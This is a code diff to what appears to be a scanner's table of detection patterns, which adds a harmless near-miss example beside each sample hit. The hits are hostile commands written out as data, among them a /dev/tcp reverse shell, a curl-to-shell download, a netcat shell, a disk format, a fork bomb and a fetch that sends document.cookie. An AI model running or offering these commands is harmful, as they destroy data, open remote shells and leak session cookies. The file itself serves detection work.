@@ -33,24 +33,44 @@ _WEBCLIENT = r"(?i:iex)[ \t(]{1,4}(?i:new-object[ \t]+net\.webclient|iwr|irm|inv
 _NETCAT = rf"(?:nc|ncat|netcat)[ \t][^\r\n]{{0,80}}-[a-z]{{0,4}}[ec][ \t]+{_SHELL}"
 _DISK = r"(?:dd[ \t][^\r\n]{0,80}of=/dev/[a-z]|mkfs(?:\.[a-z0-9]{1,8})?[ \t]+/dev/)"
 
-# name, expression, sample; samples are put together so that no scanner takes this file for an attack
-_ROWS: tuple[tuple[str, str, str], ...] = (
-    ("delete_tree", _DELETE, "rm " + "-rf /"),
-    ("download_and_run", rf"(?:curl|wget)[ \t][^\r\n|]{{1,200}}\|[ \t]*{_SHELL}", "curl https://x.example | " + "sh"),
-    ("decode_and_run", rf"base64[ \t]+(?:-d|-D|--decode)[^\r\n|]{{0,80}}\|[ \t]*{_SHELL}", "base64 -d x | " + "bash"),
-    ("reverse_shell", r"/dev/(?:tcp|udp)/[^\s/]{1,80}/[0-9$]", "bash -i >& /dev/" + "tcp/192.0.2.1/443 0>&1"),
-    ("netcat_shell", _NETCAT, "nc 192.0.2.1 4 -e /bin/" + "sh"),
-    ("overwrite_disk", _DISK, "mkfs.ext4 " + "/dev/sda1"),
-    ("fork_bomb", r":\(\)[ \t]*\{[ \t]*:[ \t]*\|[ \t]*:", ":()" + "{ :|:& };:"),
-    ("powershell_encoded", _ENCODED, "powershell -enc " + "QUJD" * 8),
-    ("powershell_download", _WEBCLIENT, "IEX (New-Object " + "Net.WebClient)"),
-    ("python_shell", _PYTHON_SHELL, "os." + "system(cmd)"),
-    ("python_evaluates", _PYTHON_EVALUATES, "exec" + "(base64.b64decode(x))"),
-    ("python_unpickles", r"(?:pickle|cPickle|dill|marshal)\.loads?\(", "pickle." + "loads(data)"),
-    ("python_deletes", r"shutil\.rmtree\([ \t]*[\"'](?:/|~|C:)", "shutil." + "rmtree('/')"),
-    ("javascript_evaluates", _JS_EVALUATES, "eval" + "(atob(x))"),
-    ("javascript_process", r"require\([\"'](?:node:)?child_process[\"']\)", "require('" + "child_process')"),
-    ("javascript_cookie", _JS_COOKIE, "fetch('/x?' + " + "document.cookie)"),
+# name, expression, hit, near-miss; hits are put together so that no scanner takes this file for an attack
+_ROWS: tuple[tuple[str, str, str, str], ...] = (
+    ("delete_tree", _DELETE, "rm " + "-rf /", "rm -rf build/"),
+    (
+        "download_and_run",
+        rf"(?:curl|wget)[ \t][^\r\n|]{{1,200}}\|[ \t]*{_SHELL}",
+        "curl https://x.example | " + "sh",
+        "curl https://x.example | less",
+    ),
+    (
+        "decode_and_run",
+        rf"base64[ \t]+(?:-d|-D|--decode)[^\r\n|]{{0,80}}\|[ \t]*{_SHELL}",
+        "base64 -d x | " + "bash",
+        "base64 -d x > picture.png",
+    ),
+    (
+        "reverse_shell",
+        r"/dev/(?:tcp|udp)/[^\s/]{1,80}/[0-9$]",
+        "bash -i >& /dev/" + "tcp/192.0.2.1/443 0>&1",
+        "echo done > /dev/null",
+    ),
+    ("netcat_shell", _NETCAT, "nc 192.0.2.1 4 -e /bin/" + "sh", "nc -z 192.0.2.1 443"),
+    ("overwrite_disk", _DISK, "mkfs.ext4 " + "/dev/sda1", "dd if=/dev/zero of=disk.img"),
+    ("fork_bomb", r":\(\)[ \t]*\{[ \t]*:[ \t]*\|[ \t]*:", ":()" + "{ :|:& };:", "f() { echo a | cat; }"),
+    ("powershell_encoded", _ENCODED, "powershell -enc " + "QUJD" * 8, "powershell -File build.ps1"),
+    ("powershell_download", _WEBCLIENT, "IEX (New-Object " + "Net.WebClient)", "New-Object Net.WebClient"),
+    ("python_shell", _PYTHON_SHELL, "os." + "system(cmd)", "subprocess.run(['ls'], check=True)"),
+    ("python_evaluates", _PYTHON_EVALUATES, "exec" + "(base64.b64decode(x))", "ast.literal_eval(text)"),
+    ("python_unpickles", r"(?:pickle|cPickle|dill|marshal)\.loads?\(", "pickle." + "loads(data)", "json.loads(data)"),
+    ("python_deletes", r"shutil\.rmtree\([ \t]*[\"'](?:/|~|C:)", "shutil." + "rmtree('/')", "shutil.rmtree(tmp_path)"),
+    ("javascript_evaluates", _JS_EVALUATES, "eval" + "(atob(x))", "JSON.parse(atob(x))"),
+    (
+        "javascript_process",
+        r"require\([\"'](?:node:)?child_process[\"']\)",
+        "require('" + "child_process')",
+        "require('path')",
+    ),
+    ("javascript_cookie", _JS_COOKIE, "fetch('/x?' + " + "document.cookie)", "fetch('/x')"),
 )
 
 
@@ -66,7 +86,8 @@ def code_patterns() -> tuple[Pattern, ...]:
             left=_START,
             right="",
             max_len=512,
-            hits=(sample,),
+            hits=(hit,),
+            near_misses=(near_miss,),
         )
-        for name, expression, sample in _ROWS
+        for name, expression, hit, near_miss in _ROWS
     )
